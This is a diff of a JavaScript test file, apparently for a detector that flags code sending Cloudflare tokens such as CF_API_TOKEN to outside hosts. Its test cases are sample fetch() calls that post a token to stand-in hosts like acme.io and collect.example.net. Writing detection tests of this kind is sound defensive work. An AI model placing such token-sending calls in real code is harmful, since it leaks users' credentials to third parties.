@@ -55,6 +55,12 @@ it.each([
   expect(told(`${code} // Cloudflare`)).toEqual(expected);
 });
 
-it('a file that only speaks of wrangler sends its secrets where it likes', () => {
-  expect(told(`fetch('https://acme.io/' + ${T}, { body: ${T} }); // wrangler`)).toEqual([`url CF_API_TOKEN acme.io | ${T}`]);
+it('the secrets of a file that says nothing else of Cloudflare are told by their names', () => {
+  expect(told(`fetch('https://acme.io/', { body: ${T} });`)).toEqual([`elsewhere CF_API_TOKEN acme.io | ${T}`]);
+  expect(told(`fetch('https://acme.io/', { body: process.env.CF_ACCESS_TOKEN });`)).toEqual([]);
+});
+
+it("a host of a sample has no business with what is certainly a token, and may be one's own otherwise", () => {
+  expect(told(`fetch('https://collect.example.net/', { body: ${T} });`)).toEqual([`elsewhere CF_API_TOKEN collect.example.net | ${T}`]);
+  expect(told(`fetch('https://api.example.com/', { headers: { 'x-t': ${T} }, body: process.env.CLOUDFLARE_SHOP_TOKEN });`)).toEqual([]);
 });
